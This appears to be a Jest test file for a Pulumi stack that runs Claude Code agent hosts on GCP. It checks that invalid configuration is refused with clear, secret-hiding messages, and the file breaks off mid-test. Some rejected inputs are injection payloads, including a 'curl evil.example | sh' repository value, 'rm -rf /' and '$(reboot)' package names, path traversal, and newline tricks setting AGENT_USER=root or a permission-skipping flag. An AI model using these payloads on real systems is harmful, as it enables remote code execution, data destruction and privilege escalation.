// Every configuration the stack refuses, thrown before any resource is registered: each message
// names the key, shows the bad value (or, for a secret, hides it) and gives a fix
// (tests/errors.ts checks those three, so rewording a message does not break these tests). The
// few messages whose wording is the point are compared whole in WORDED below.
import { parseConfig, checkDataDisk, resourceNames, CONFIG_KEYS } from "../config";
import { BASE_CONFIG, runProgram } from "./harness";
import { expectConfigError, expectProgramRefuses, thrownBy, type Refusal } from "./errors";

jest.setTimeout(60_000);

const PUB =
  "ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIPersonPersonPersonPersonPersonPersonPerso alice@laptop";

// The rule's own wording names the bare prefix ("sk-ant- followed by at least 20 …"); an echo of
// the value would show it quoted, as config.ts's show() quotes every value.
const ONLY_PREFIX_ECHOED = JSON.stringify("sk-ant-");

type Case = [label: string, overrides: Record<string, string | undefined>, refusal: Refusal];

const CASES: Case[] = [
  [
    "agentCount not a number",
    { "agent-host:agentCount": "ten" },
    { key: "agentCount", value: "ten", fix: "pulumi config set agentCount 10" },
  ],
  [
    "agentCount fractional",
    { "agent-host:agentCount": "2.5" },
    { key: "agentCount", value: "2.5", fix: "pulumi config set agentCount 10" },
  ],
  [
    "agentCount zero",
    { "agent-host:agentCount": "0" },
    { key: "agentCount", value: 0, fix: "pulumi config set agentCount 10" },
  ],
  [
    "agentCount negative",
    { "agent-host:agentCount": "-3" },
    { key: "agentCount", value: -3, fix: "pulumi config set agentCount 10" },
  ],
  [
    "agentCount above the memory bound",
    { "agent-host:agentCount": "21" },
    { key: "agentCount", value: 21, fix: "Lower agentCount or pick a larger machineType" },
  ],
  [
    "agentCount above the bound of a small machine",
    { "agent-host:agentCount": "5", "agent-host:machineType": "e2-standard-2" },
    { key: "agentCount", value: 5, fix: "Lower agentCount or pick a larger machineType" },
  ],
  ...(
    [
      ["0", 0],
      ["-1", -1],
      ["2.5", "2.5"],
      ["abc", "abc"],
      ["1000", 1000],
    ] as const
  ).map(([text, value]): Case => [
    `hostCount ${text}`,
    { "agent-host:hostCount": text },
    { key: "hostCount", value, fix: "pulumi config set hostCount 2" },
  ]),
  [
    "hostAgentCounts with a word in it",
    { "agent-host:hostCount": "2", "agent-host:hostAgentCounts": "12,many" },
    { key: "hostAgentCounts", value: "many", fix: "pulumi config set hostAgentCounts 12,4" },
  ],
  [
    "hostAgentCounts with one number for two hosts",
    { "agent-host:hostCount": "2", "agent-host:hostAgentCounts": "12" },
    { key: "hostAgentCounts", value: "12", fix: "pulumi config set hostAgentCounts 12,10" },
  ],
  [
    "hostAgentCounts above the memory bound on one host",
    { "agent-host:hostCount": "2", "agent-host:hostAgentCounts": "4,21" },
    {
      key: "hostAgentCounts",
      value: 21,
      fix: "Lower hostAgentCounts or pick a larger machineType",
    },
  ],
  [
    "agentCount above the absolute ceiling on an unknown machine",
    { "agent-host:agentCount": "65", "agent-host:machineType": "x9-mega-512" },
    { key: "agentCount", value: 65, fix: "Lower agentCount" },
  ],
  [
    "machineType of the wrong form",
    { "agent-host:machineType": "E2 Standard 8" },
    {
      key: "machineType",
      value: "E2 Standard 8",
      fix: "pulumi config set machineType e2-standard-8",
    },
  ],
  [
    "image pinned by self link",
    {
      "agent-host:image":
        "projects/ubuntu-os-cloud/global/images/ubuntu-2404-noble-amd64-v20251001",
    },
    {
      key: "image",
      value: "projects/ubuntu-os-cloud/global/images/ubuntu-2404-noble-amd64-v20251001",
      fix: "pulumi config set image ubuntu-os-cloud/ubuntu-2404-lts-amd64",
    },
  ],
  [
    "image URL",
    { "agent-host:image": "https://www.googleapis.com/compute/v1/projects/x/global/images/y" },
    {
      key: "image",
      value: "https://www.googleapis.com/compute/v1/projects/x/global/images/y",
      fix: "pulumi config set image ubuntu-os-cloud/ubuntu-2404-lts-amd64",
    },
  ],
  [
    "bootDiskSizeGb too small",
    { "agent-host:bootDiskSizeGb": "10" },
    { key: "bootDiskSizeGb", value: 10, fix: "pulumi config set bootDiskSizeGb 50" },
  ],
  [
    "dataDiskSizeGb not a number",
    { "agent-host:dataDiskSizeGb": "200GB" },
    { key: "dataDiskSizeGb", value: "200GB", fix: "pulumi config set dataDiskSizeGb 200" },
  ],
  [
    "dataDiskType unknown",
    { "agent-host:dataDiskType": "hyperdisk-fast" },
    {
      key: "dataDiskType",
      value: "hyperdisk-fast",
      fix: "pulumi config set dataDiskType pd-balanced",
    },
  ],
  [
    "sshSourceRanges missing",
    { "agent-host:sshSourceRanges": undefined },
    {
      key: "sshSourceRanges",
      said: "is required",
      fix: "pulumi config set --path 'sshSourceRanges[0]' 203.0.113.7/32",
    },
  ],
  [
    "sshSourceRanges empty list",
    { "agent-host:sshSourceRanges": "[]" },
    {
      key: "sshSourceRanges",
      said: "is an empty list",
      fix: "pulumi config set --path 'sshSourceRanges[0]' 203.0.113.7/32",
    },
  ],
  [
    "sshSourceRanges not a list",
    { "agent-host:sshSourceRanges": "203.0.113.7/32" },
    {
      key: "sshSourceRanges",
      value: "203.0.113.7/32",
      fix: "pulumi config set --path 'sshSourceRanges[0]' 203.0.113.7/32",
    },
  ],
  [
    "sshSourceRanges list of numbers",
    { "agent-host:sshSourceRanges": "[22]" },
    {
      key: "sshSourceRanges",
      value: "[22]",
      fix: "pulumi config set --path 'sshSourceRanges[0]' 203.0.113.7/32",
    },
  ],
  [
    "sshSourceRanges without a prefix length",
    { "agent-host:sshSourceRanges": '["203.0.113.7"]' },
    {
      key: "sshSourceRanges",
      value: "203.0.113.7",
      fix: "Use a network in CIDR form, e.g. 203.0.113.0/24",
    },
  ],
  [
    "sshSourceRanges octet out of range",
    { "agent-host:sshSourceRanges": '["300.1.2.3/32"]' },
    {
      key: "sshSourceRanges",
      value: "300.1.2.3/32",
      fix: "Use a network in CIDR form, e.g. 203.0.113.0/24",
    },
  ],
  [
    "sshSourceRanges host bits set",
    { "agent-host:sshSourceRanges": '["203.0.113.7/24"]' },
    { key: "sshSourceRanges", value: "203.0.113.7/24", fix: "Did you mean 203.0.113.0/24?" },
  ],
  [
    "sshSourceRanges duplicate",
    { "agent-host:sshSourceRanges": '["203.0.113.7/32","203.0.113.7/32"]' },
    { key: "sshSourceRanges", value: "203.0.113.7/32", fix: "Remove the duplicate." },
  ],
  [
    "sshSourceRanges a hostname",
    { "agent-host:sshSourceRanges": '["office.example.com"]' },
    {
      key: "sshSourceRanges",
      value: "office.example.com",
      fix: "Use a network in CIDR form, e.g. 203.0.113.0/24",
    },
  ],
  [
    "claudeCodeVersion a range",
    { "agent-host:claudeCodeVersion": "^2.1.0" },
    {
      key: "claudeCodeVersion",
      value: "^2.1.0",
      fix: "pulumi config set claudeCodeVersion 2.1.331",
    },
  ],
  [
    "claudeCodeVersion latest",
    { "agent-host:claudeCodeVersion": "latest" },
    {
      key: "claudeCodeVersion",
      value: "latest",
      fix: "pulumi config set claudeCodeVersion 2.1.331",
    },
  ],
  [
    "claudeCodeSource unknown",
    { "agent-host:claudeCodeSource": "brew" },
    { key: "claudeCodeSource", value: "brew", fix: "pulumi config set claudeCodeSource npm" },
  ],
  [
    "dockerSource unknown",
    { "agent-host:dockerSource": "snap" },
    { key: "dockerSource", value: "snap", fix: "pulumi config set dockerSource docker-apt" },
  ],
  [
    "dockerMode unknown",
    { "agent-host:dockerMode": "privileged" },
    { key: "dockerMode", value: "privileged", fix: "pulumi config set dockerMode rootless" },
  ],
  [
    "agentPermissionMode unknown",
    { "agent-host:agentPermissionMode": "yolo" },
    {
      key: "agentPermissionMode",
      value: "yolo",
      fix: "pulumi config set agentPermissionMode default",
    },
  ],
  [
    "snapshotRetentionDays negative",
    { "agent-host:snapshotRetentionDays": "-1" },
    { key: "snapshotRetentionDays", value: -1, fix: "pulumi config set snapshotRetentionDays 7" },
  ],
  [
    "spot not a boolean",
    { "agent-host:spot": "yes" },
    { key: "spot", value: "yes", fix: "pulumi config set spot false" },
  ],
  [
    "sshAuthorizedKeys a private key",
    {
      "agent-host:sshAuthorizedKeys": JSON.stringify(["-----BEGIN OPENSSH PRIVATE KEY-----\nabc"]),
    },
    {
      key: "sshAuthorizedKeys",
      said: "holds a private key",
      hidden: "-----BEGIN OPENSSH PRIVATE KEY-----\nabc",
      fix: "pulumi config rm sshAuthorizedKeys",
    },
  ],
  [
    "sshAuthorizedKeys not a key",
    { "agent-host:sshAuthorizedKeys": JSON.stringify(["hello world"]) },
    { key: "sshAuthorizedKeys", value: "hello world", fix: "Give the one-line OpenSSH public key" },
  ],
  [
    "sshAuthorizedKeys with a newline",
    { "agent-host:sshAuthorizedKeys": JSON.stringify([`${PUB}\n${PUB}`]) },
    {
      key: "sshAuthorizedKeys",
      value: PUB.slice(0, 40),
      fix: "Give the one-line OpenSSH public key",
    },
  ],
  [
    "anthropicApiKey with whitespace",
    { "agent-host:anthropicApiKey": "sk-ant-api03-abc def" },
    {
      key: "anthropicApiKey",
      hidden: "sk-ant-api03-abc def",
      fix: "pulumi config set --secret anthropicApiKey <key>",
    },
  ],
  [
    "anthropicApiKey of another vendor",
    { "agent-host:anthropicApiKey": "sk-proj-abcdef" },
    {
      key: "anthropicApiKey",
      hidden: "sk-proj-abcdef",
      fix: "pulumi config set --secret anthropicApiKey <key>",
    },
  ],
  [
    "anthropicApiKey only the prefix",
    { "agent-host:anthropicApiKey": "sk-ant-" },
    {
      key: "anthropicApiKey",
      hidden: ONLY_PREFIX_ECHOED,
      fix: "pulumi config set --secret anthropicApiKey <key>",
    },
  ],
  [
    "deployPrivateKey only a header line",
    { "agent-host:deployPrivateKey": "-----BEGIN OPENSSH PRIVATE KEY-----" },
    {
      key: "deployPrivateKey",
      hidden: "-----BEGIN OPENSSH PRIVATE KEY-----",
      fix: "pulumi config set --secret deployPrivateKey < ~/.ssh/agent-host-deploy",
    },
  ],
  [
    "deployPrivateKey a public key",
    { "agent-host:deployPrivateKey": PUB },
    {
      key: "deployPrivateKey",
      hidden: PUB,
      fix: "pulumi config set --secret deployPrivateKey < ~/.ssh/agent-host-deploy",
    },
  ],
  [
    "repository without a scheme",
    { "agent-host:repository": "github.com/acme/app" },
    {
      key: "repository",
      value: "github.com/acme/app",
      fix: "pulumi config set repository https://github.com/acme/app.git",
    },
  ],
  [
    "repository with shell metacharacters",
    { "agent-host:repository": "git@github.com:acme/app.git; curl evil.example | sh" },
    {
      key: "repository",
      value: "git@github.com:acme/app.git; curl evil.example | sh",
      fix: "pulumi config set repository https://github.com/acme/app.git",
    },
  ],
  [
    "repository over plain http",
    { "agent-host:repository": "http://git.acme.example/app.git" },
    {
      key: "repository",
      value: "http://git.acme.example/app.git",
      fix: "pulumi config set repository https://github.com/acme/app.git",
    },
  ],
  [
    "repository with a token in the URL",
    { "agent-host:repository": "https://x-access-token:ghp_abcdefgh@github.com/acme/app.git" },
    {
      key: "repository",
      said: "(not shown)",
      hidden: "ghp_abcdefgh",
      fix: "pulumi config set repository <the URL without user@>",
    },
  ],
  [
    "repository path escaping upwards",
    { "agent-host:repository": "git@github.com:../../etc/passwd" },
    {
      key: "repository",
      value: "git@github.com:../../etc/passwd",
      fix: "pulumi config set repository https://github.com/acme/app.git",
    },
  ],
  [
    "gitUserEmail not an address",
    { "agent-host:gitUserName": "Acme Agents", "agent-host:gitUserEmail": "agents at acme" },
    {
      key: "gitUserEmail",
      value: "agents at acme",
      fix: "pulumi config set gitUserEmail agents@acme.example",
    },
  ],
  [
    "gitUserEmail with a newline (would add a host.conf line)",
    {
      "agent-host:gitUserName": "Acme Agents",
      "agent-host:gitUserEmail": "a@acme.example\nAGENT_USER=root",
    },
    {
      key: "gitUserEmail",
      value: "a@acme.example\nAGENT_USER=root",
      fix: "pulumi config set gitUserEmail agents@acme.example",
    },
  ],
  [
    "gitUserName with a newline",
    {
      "agent-host:gitUserName": "Acme\nAGENT_USER=root",
      "agent-host:gitUserEmail": "agents@acme.example",
    },
    {
      key: "gitUserName",
      value: "Acme\nAGENT_USER=root",
      fix: 'pulumi config set gitUserName "Acme Agents"',
    },
  ],
  [
    "gitUserName without gitUserEmail",
    { "agent-host:gitUserName": "Acme Agents" },
    {
      key: "gitUserEmail",
      said: "is not set",
      fix: "pulumi config set gitUserEmail agents@acme.example",
    },
  ],
  [
    "claudeEnv setting the API key's variable",
    {
      "agent-host:claudeEnv": JSON.stringify([
        "HTTPS_PROXY=http://proxy:3128",
        "ANTHROPIC_API_KEY=x",
      ]),
    },
    {
      key: "claudeEnv",
      value: "ANTHROPIC_API_KEY=x",
      said: "comes from its own setting or from a secret file",
      fix: "pulumi config set --path 'claudeEnv[0]' HTTPS_PROXY=http://proxy:3128",
    },
  ],
  [
    "claudeEnv with a blank in a pair",
    { "agent-host:claudeEnv": JSON.stringify(["NODE_OPTIONS=--max-old-space-size=4096 --trace"]) },
    {
      key: "claudeEnv",
      value: "NODE_OPTIONS=--max-old-space-size=4096 --trace",
      said: "is not NAME=value",
      fix: "pulumi config set --path 'claudeEnv[0]' HTTPS_PROXY=http://proxy:3128",
    },
  ],
  [
    "claudeEnv carrying a token under another name",
    {
      "agent-host:claudeEnv": JSON.stringify(["GH_TOKEN=ghp_abcdefghijklmnopqrstuvwxyz0123456789"]),
    },
    {
      key: "claudeEnv",
      hidden: "ghp_abcdefghijklmnopqrstuvwxyz0123456789",
      said: "GH_TOKEN",
      fix: "pulumi config set --path 'claudeEnv[0]' HTTPS_PROXY=http://proxy:3128",
    },
  ],
  [
    "extraPackages with a shell command",
    { "agent-host:extraPackages": JSON.stringify(["ripgrep", "curl; rm -rf /"]) },
    {
      key: "extraPackages",
      value: "curl; rm -rf /",
      fix: "pulumi config set --path 'extraPackages[1]' build-essential",
    },
  ],
  [
    "extraPackages with a command substitution",
    { "agent-host:extraPackages": JSON.stringify(["$(reboot)"]) },
    {
      key: "extraPackages",
      value: "$(reboot)",
      fix: "pulumi config set --path 'extraPackages[0]' build-essential",
    },
  ],
  [
    "extraPackages with an option",
    { "agent-host:extraPackages": JSON.stringify(["--allow-unauthenticated"]) },
    {
      key: "extraPackages",
      value: "--allow-unauthenticated",
      fix: "pulumi config set --path 'extraPackages[0]' build-essential",
    },
  ],
  [
    "extraPackages with a version",
    { "agent-host:extraPackages": JSON.stringify(["nodejs=18.19.0"]) },
    {
      key: "extraPackages",
      value: "nodejs=18.19.0",
      fix: "pulumi config set --path 'extraPackages[0]' build-essential",
    },
  ],
  [
    "extraPackages as one string",
    { "agent-host:extraPackages": "ripgrep jq" },
    {
      key: "extraPackages",
      value: "ripgrep jq",
      fix: "pulumi config set --path 'extraPackages[0]' build-essential",
    },
  ],
  [
    "gitCredentials with whitespace",
    {
      "agent-host:gitCredentials": "ghp_abc def",
      "agent-host:repository": "https://github.com/acme/app.git",
    },
    {
      key: "gitCredentials",
      hidden: "ghp_abc def",
      fix: "pulumi config set --secret gitCredentials <token>",
    },
  ],
  [
    "gitCredentials an SSH key for an HTTPS repository",
    {
      "agent-host:gitCredentials":
        "-----BEGIN OPENSSH PRIVATE KEY-----\nabc\n-----END OPENSSH PRIVATE KEY-----\n",
      "agent-host:repository": "https://github.com/acme/app.git",
    },
    {
      key: "gitCredentials",
      value: "https://github.com/acme/app.git",
      hidden: "-----BEGIN OPENSSH PRIVATE KEY-----\nabc",
      fix: "Use the repository's SSH URL (git@host:path.git)",
    },
  ],
  [
    "gitCredentials a token for an SSH repository",
    {
      "agent-host:gitCredentials": "ghp_abcdefgh12345678",
      "agent-host:repository": "git@github.com:acme/app.git",
    },
    {
      key: "gitCredentials",
      value: "git@github.com:acme/app.git",
      hidden: "ghp_abcdefgh12345678",
      fix: "Use the repository's https:// URL",
    },
  ],
  [
    "gitCredentials a non-GitHub token without a repository",
    { "agent-host:gitCredentials": "glpat-abcdefgh12345678" },
    {
      key: "gitCredentials",
      said: "repository is not set",
      hidden: "glpat-abcdefgh12345678",
      fix: "pulumi config set repository https://github.com/acme/app.git",
    },
  ],
  [
    "unknown key (typo)",
    { "agent-host:agentCounts": "12" },
    {
      key: "agent-host:agentCounts",
      said: "is not a configuration key of this stack",
      fix: "pulumi config rm agentCounts",
    },
  ],
  [
    "claudeProvider unknown",
    { "agent-host:claudeProvider": "bedrock" },
    { key: "claudeProvider", value: "bedrock", fix: "pulumi config set claudeProvider anthropic" },
  ],
  [
    "vertexRegion where Claude is not served",
    { "agent-host:claudeProvider": "vertex", "agent-host:vertexRegion": "europe-west3" },
    { key: "vertexRegion", value: "europe-west3", fix: "pulumi config set vertexRegion global" },
  ],
  [
    "vertexRegion given as a zone",
    { "agent-host:claudeProvider": "vertex", "agent-host:vertexRegion": "us-east5-a" },
    { key: "vertexRegion", value: "us-east5-a", fix: "pulumi config set vertexRegion global" },
  ],
  [
    "vertex with an API key",
    {
      "agent-host:claudeProvider": "vertex",
      "agent-host:anthropicApiKey": `sk-ant-api03-${"K".repeat(40)}`,
    },
    {
      key: "anthropicApiKey",
      said: "claudeProvider is vertex",
      hidden: `sk-ant-api03-${"K".repeat(40)}`,
      fix: "pulumi config rm anthropicApiKey",
    },
  ],
  [
    "vertex with anthropicBaseUrl",
    {
      "agent-host:claudeProvider": "vertex",
      "agent-host:anthropicBaseUrl": "https://llm.acme.example/anthropic",
    },
    {
      key: "anthropicBaseUrl",
      value: "https://llm.acme.example/anthropic",
      said: "claudeProvider is vertex",
      fix: "pulumi config rm anthropicBaseUrl",
    },
  ],
  [
    "vertexBaseUrl without vertex",
    { "agent-host:vertexBaseUrl": "https://vertex-psc.p.googleapis.com/v1" },
    {
      key: "vertexBaseUrl",
      value: "https://vertex-psc.p.googleapis.com/v1",
      said: "claudeProvider is anthropic",
      fix: "pulumi config rm vertexBaseUrl",
    },
  ],
  [
    "claudeModel an Anthropic API ID on Vertex",
    {
      "agent-host:claudeProvider": "vertex",
      "agent-host:claudeModel": "claude-sonnet-4-5-20250929",
    },
    {
      key: "claudeModel",
      value: "claude-sonnet-4-5-20250929",
      fix: "pulumi config set claudeModel claude-sonnet-4-5@20250929",
    },
  ],
  [
    "claudeModel a Vertex ID on Anthropic's API",
    { "agent-host:claudeModel": "claude-opus-4-1@20250805" },
    {
      key: "claudeModel",
      value: "claude-opus-4-1@20250805",
      fix: "pulumi config set claudeModel claude-opus-4-1-20250805",
    },
  ],
  [
    "claudeModel with a space (a second host.conf word)",
    { "agent-host:claudeModel": "sonnet --dangerously-skip-permissions" },
    {
      key: "claudeModel",
      value: "sonnet --dangerously-skip-permissions",
      fix: "pulumi config set claudeModel sonnet",
    },
  ],
  [
    "anthropicBaseUrl with credentials in it (not echoed)",
    { "agent-host:anthropicBaseUrl": "https://team:hunter2@llm.acme.example" },
    {
      key: "anthropicBaseUrl",
      said: "(not shown)",
      hidden: "hunter2",
      fix: "pulumi config set anthropicBaseUrl https://llm-gateway.example.com/anthropic",
    },
  ],
  [
    "anthropicBaseUrl with a key in the query (not echoed)",
    { "agent-host:anthropicBaseUrl": "https://llm.acme.example/anthropic?key=hunter2" },
    {
      key: "anthropicBaseUrl",
      said: "(not shown)",
      hidden: "hunter2",
      fix: "pulumi config set anthropicBaseUrl https://llm-gateway.example.com/anthropic",
    },
  ],
  [
    "anthropicBaseUrl with an API key in its path (not echoed)",
    { "agent-host:anthropicBaseUrl": `https://llm.acme.example/sk-ant-api03-${"Q".repeat(30)}` },
    {
      key: "anthropicBaseUrl",
      said: "(not shown)",
      hidden: `sk-ant-api03-${"Q".repeat(30)}`,
      fix: "pulumi config rm anthropicBaseUrl",
    },
  ],
  [
    "anthropicBaseUrl over plain http to another host",
    { "agent-host:anthropicBaseUrl": "http://llm.acme.example" },
    {
      key: "anthropicBaseUrl",
      value: "http://llm.acme.example",
      fix: "pulumi config set anthropicBaseUrl https://llm-gateway.example.com/anthropic",
    },
  ],
  [
    "anthropicBaseUrl not a URL",
    { "agent-host:anthropicBaseUrl": "llm.acme.example" },
    {
      key: "anthropicBaseUrl",
      value: "llm.acme.example",
      fix: "pulumi config set anthropicBaseUrl https://llm-gateway.example.com/anthropic",
    },
  ],
  [
    "anthropicBaseUrl with a newline (a second host.conf line)",
    { "agent-host:anthropicBaseUrl": "https://llm.acme.example\nCLAUDE_PROVIDER=vertex" },
    {
      key: "anthropicBaseUrl",
      value: "https://llm.acme.example\nCLAUDE_PROVIDER=vertex",
      fix: "pulumi config set anthropicBaseUrl https://llm-gateway.example.com/anthropic",
    },
  ],
  [
    "vertexBaseUrl with user info (not echoed)",
    {
      "agent-host:claudeProvider": "vertex",
      "agent-host:vertexBaseUrl": "https://sa:secret@vertex-psc.p.googleapis.com/v1",
    },
    {
      key: "vertexBaseUrl",
      said: "(not shown)",
      hidden: "sa:secret",
      fix: "pulumi config set vertexBaseUrl https://us-east5-aiplatform.googleapis.com/v1",
    },
  ],
  [
    "zone missing",
    { "gcp:zone": undefined },
    { key: "gcp:zone", said: "is not set", fix: "pulumi config set gcp:zone europe-west1-b" },
  ],
  [
    "zone given as a region",
    { "gcp:zone": "europe-west1" },
    { key: "gcp:zone", value: "europe-west1", fix: "pulumi config set gcp:zone europe-west1-b" },
  ],
  [
    "project missing",
    { "gcp:project": undefined },
    { key: "gcp:project", said: "is not set", fix: "pulumi config set gcp:project my-project-id" },
  ],
  [
    "project of the wrong form",
    { "gcp:project": "My Project" },
    { key: "gcp:project", value: "My Project", fix: "pulumi config set gcp:project my-project-id" },
  ],
  [
    "workHoursStart not HH:MM",
    { "agent-host:workHoursStart": "8am" },
    { key: "workHoursStart", value: "8am", fix: "pulumi config set workHoursStart 08:00" },
  ],
  [
    "workHoursStop past midnight",
    { "agent-host:workHoursStart": "08:00", "agent-host:workHoursStop": "24:00" },
    { key: "workHoursStop", value: "24:00", fix: "pulumi config set workHoursStop 19:00" },
  ],
  [
    "workHoursStart equal to workHoursStop",
    { "agent-host:workHoursStart": "9:00", "agent-host:workHoursStop": "09:00" },
    { key: "workHoursStart", said: "both 09:00", fix: "pulumi config set workHoursStop 19:00" },
  ],
  [
    "workDays not day names",
    { "agent-host:workHoursStop": "19:00", "agent-host:workDays": "Weekdays" },
    { key: "workDays", value: "Weekdays", fix: "pulumi config set workDays Mon-Fri" },
  ],
  [
    "workDays with an open range",
    { "agent-host:workHoursStop": "19:00", "agent-host:workDays": "Mon-" },
    { key: "workDays", value: "Mon-", fix: "pulumi config set workDays Mon-Fri" },
  ],
  [
    "workTimeZone unknown",
    { "agent-host:workHoursStop": "19:00", "agent-host:workTimeZone": "Mars/Olympus_Mons" },
    {
      key: "workTimeZone",
      value: "Mars/Olympus_Mons",
      fix: "pulumi config set workTimeZone Europe/Berlin",
    },
  ],
  [
    "workTimeZone in the wrong case",
    { "agent-host:workHoursStop": "19:00", "agent-host:workTimeZone": "europe/berlin" },
    {
      key: "workTimeZone",
      value: "europe/berlin",
      fix: "pulumi config set workTimeZone Europe/Berlin",
    },
  ],
  [
    "autoStopMinutes below the floor",
    { "agent-host:autoStopMinutes": "5" },
    { key: "autoStopMinutes", value: 5, fix: "pulumi config set autoStopMinutes 10" },
  ],
  [
    "autoStopMinutes with a unit",
    { "agent-host:autoStopMinutes": "1h" },
    { key: "autoStopMinutes", value: "1h", fix: "pulumi config set autoStopMinutes 60" },
  ],
  [
    "autoStopMinutes above a day",
    { "agent-host:autoStopMinutes": "2000" },
    { key: "autoStopMinutes", value: 2000, fix: "pulumi config set autoStopMinutes 60" },
  ],
  [
    "dashboardPort below 1024",
    { "agent-host:dashboardPort": "80" },
    { key: "dashboardPort", value: 80, fix: "pulumi config set dashboardPort 7420" },
  ],
  [
    "dashboardPort not a number",
    { "agent-host:dashboardPort": "http" },
    { key: "dashboardPort", value: "http", fix: "pulumi config set dashboardPort 7420" },
  ],
  [
    "dashboardUrl not http(s)",
    { "agent-host:dashboardUrl": "ftp://127.0.0.1:7420" },
    {
      key: "dashboardUrl",
      value: "ftp://127.0.0.1:7420",
      fix: "pulumi config set dashboardUrl http://127.0.0.1:7420",
    },
  ],
  [
    "dashboardUrl holding the token",
    {
      "agent-host:dashboardUrl":
        "http://127.0.0.1:7420/#token=s1N5_Rlt9bUbOnzvE_3qQ2i0YZglm745co3mxGNKPBM",
    },
    {
      key: "dashboardUrl",
      said: '"http://127.0.0.1:7420/…"',
      hidden: "s1N5_Rlt9bUbOnzvE_3qQ2i0YZglm745co3mxGNKPBM",
      fix: "pulumi config set dashboardUrl http://127.0.0.1:7420",
    },
  ],
];

const SECRET_KEYS = [
  "agent-host:anthropicApiKey",
  "agent-host:deployPrivateKey",
  "agent-host:gitCredentials",
];

function configWith(overrides: Record<string, string | undefined>): Record<string, string> {
  const merged: Record<string, string | undefined> = { ...BASE_CONFIG, ...overrides };
  return Object.fromEntries(Object.entries(merged).filter(([, v]) => v !== undefined)) as Record<
    string,
    string
  >;
}

describe.each(CASES)("refuses %s", (_label, overrides, refusal) => {
  test("parseConfig names the key, the value and the fix", () => {
    expectConfigError(
      thrownBy(() => parseConfig(configWith(overrides))),
      refusal,
    );
  });

  test("the program refuses it before registering any resource", async () => {
    await expectProgramRefuses(configWith(overrides), { secretKeys: SECRET_KEYS }, refusal);
  });
});

test("the table has at least 25 bad configurations", () => {
  expect(CASES.length).toBeGreaterThanOrEqual(25);
});

// Whole messages, word for word, where the wording is the point:
// - the first message a new user meets (no SSH ranges yet): it must explain what the key is for
//   and give both a personal address and the IAP range, not only a command;
// - an unknown key: the message lists every key the stack knows, in the table's order, so a typo
//   can be spotted by eye;
// - the house style's own example (STYLE.md rule 5): the arithmetic behind the agent bound is
//   what lets a user pick a machine type;
// - a secret stored in plain text: the two commands, in order, are the only safe way out.
const WORDED: [label: string, overrides: Record<string, string | undefined>, message: string][] = [
  [
    "sshSourceRanges missing",
    { "agent-host:sshSourceRanges": undefined },
    "sshSourceRanges is required: the networks allowed to reach SSH on the VM. Run: pulumi config set --path 'sshSourceRanges[0]' 203.0.113.7/32 (your address), or 35.235.240.0/20 for IAP.",
  ],
  [
    "unknown key (typo)",
    { "agent-host:agentCounts": "12" },
    `agent-host:agentCounts is not a configuration key of this stack (a typo?). Known keys: ${CONFIG_KEYS.join(", ")}. Remove it with: pulumi config rm agentCounts`,
  ],
  [
    "agentCount above the memory bound",
    { "agent-host:agentCount": "21" },
    "agentCount must be between 1 and 20 for e2-standard-8 (32 GiB, 1.5 GiB per agent after 2 GiB for the host); got 21. Lower agentCount or pick a larger machineType.",
  ],
];

describe.each(WORDED)("says, word for word, %s", (label, overrides, message) => {
  test("parseConfig", () => {
    expect((thrownBy(() => parseConfig(configWith(overrides))) as Error).message).toBe(message);
  });

  test("is also in the table of refusals", () => {
    expect(CASES.find(([name]) => name === label)?.[1]).toEqual(overrides);
  });
});

describe("refusals that need the current state", () => {
  test("a data disk smaller than the one that exists", async () => {
    const refusal: Refusal = {
      key: "dataDiskSizeGb",
      value: 100,
      said: "already has 200 GB",
      fix: "pulumi config set dataDiskSizeGb 200",
    };
    expectConfigError(
      thrownBy(() =>
        checkDataDisk(
          { dataDiskSizeGb: 100, dataDiskType: "pd-balanced" },
          { sizeGb: 200, type: "pd-balanced" },
        ),
      ),
      refusal,
    );
    await expectProgramRefuses(
      configWith({ "agent-host:dataDiskSizeGb": "100" }),
      { existingDisk: { size: 200, type: "pd-balanced" } },
      refusal,
    );
  });

  test("a data disk of another type than the one that exists", async () => {
    // The product names a disk type bare, as the API does, rather than quoting it.
    await expectProgramRefuses(
      configWith({ "agent-host:dataDiskType": "pd-ssd" }),
      { existingDisk: { size: 200, type: "pd-balanced" } },
      {
        key: "dataDiskType",
        said: "is pd-ssd but the data disk is pd-balanced",
        fix: "pulumi config set dataDiskType pd-balanced",
      },
    );
  });

  test("a grown data disk is fine", async () => {
    const run = await runProgram(configWith({ "agent-host:dataDiskSizeGb": "300" }), {
      existingDisk: { size: 200, type: "pd-balanced" },
    });
    expect(run.resources.length).toBeGreaterThan(0);
  });

  test("a secret stored in plain text", async () => {
    const message = await expectProgramRefuses(
      configWith({ "agent-host:anthropicApiKey": "sk-ant-api03-plain" }),
      { secretKeys: [] },
      {
        key: "anthropicApiKey",
        said: "is stored in plain text",
        hidden: "sk-ant-api03-plain",
        fix: "pulumi config set --secret anthropicApiKey <value>",
      },
    );
    // Whole, word for word: the two commands, in this order, are the only way out that does not
    // leave the key in the stack's history in plain text.
    expect(message).toBe(
      "anthropicApiKey is stored in plain text in the stack's config file. Remove it with: pulumi config rm anthropicApiKey, then set it with: pulumi config set --secret anthropicApiKey <value>",
    );
  });

  test("git credentials stored in plain text", async () => {
    await expectProgramRefuses(
      configWith({
        "agent-host:gitCredentials": "ghp_PLAINTEXTplaintext0123",
        "agent-host:repository": "https://github.com/acme/app.git",
      }),
      { secretKeys: ["agent-host:anthropicApiKey", "agent-host:deployPrivateKey"] },
      {
        key: "gitCredentials",
        said: "is stored in plain text",
        hidden: "ghp_PLAINTEXTplaintext0123",
        fix: "pulumi config set --secret gitCredentials <value>",
      },
    );
  });

  test("a notification webhook stored in plain text", async () => {
    await expectProgramRefuses(
      configWith({ "agent-host:notifyWebhookUrl": "https://ntfy.sh/plain-topic" }),
      { secretKeys: [] },
      {
        key: "notifyWebhookUrl",
        said: "is stored in plain text",
        hidden: "https://ntfy.sh/plain-topic",
        fix: "pulumi config set --secret notifyWebhookUrl <value>",
      },
    );
  });

  test.each([
    ["http://ntfy.sh/topic-CANARYhook", "must be an https:// URL"],
    ["ntfy.sh/topic-CANARYhook", "must be an https:// URL"],
    ["slack:ftp://hooks.slack.com/CANARYhook", "must be an https:// URL"],
    ["https://hooks.slack.com/services/T/B/CANARY hook", "contains whitespace"],
  ])("a notification webhook that is not an https URL: %j", async (value, words) => {
    const message = await expectProgramRefuses(
      configWith({ "agent-host:notifyWebhookUrl": value }),
      { secretKeys: ["agent-host:notifyWebhookUrl"] },
      {
        key: "notifyWebhookUrl",
        said: words,
        hidden: value,
